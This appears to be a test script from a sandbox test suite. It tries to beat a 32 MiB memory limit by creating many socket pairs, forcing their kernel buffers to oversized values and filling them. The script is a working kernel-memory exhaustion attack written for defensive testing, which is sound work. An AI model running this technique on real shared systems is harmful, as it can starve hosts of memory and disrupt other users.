# SPDX-License-Identifier: Apache-2.0
# attack: memory of the kernel: pairs of sockets whose buffers are made larger than what a pair is counted with
# class: resources
# wins: effect
# native: n/a: that memory is nobody's; what counts is that it is bounded under proctor
# limits: mem=32 wall=20
# options: --process fork --scratch
from kit import *

import socket
tried()
total = 0
block = b'x' * 65536
keep = []


def fill(s):
    global total
    s.setblocking(False)
    try:
        while True:
            total += s.send(block[:30000])
    except OSError:
        pass


for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET:
    try:
        while total < 600 << 20:
            pair = socket.socketpair(type=kind)
            keep += pair
            for s in pair:
                for size in 1 << 30, -1:
                    for option in socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33:  # and SO_SNDBUFFORCE, SO_RCVBUFFORCE
                        sc('setsockopt', s.fileno(), socket.SOL_SOCKET, option, struct.pack('<i', size), 4)
                fill(s)
    except OSError as e:
        say(e)
say('KERNEL BYTES', total, len(keep))
if total > 40 << 20:
    effect('%d MiB of kernel memory with a limit of 32' % (total >> 20))
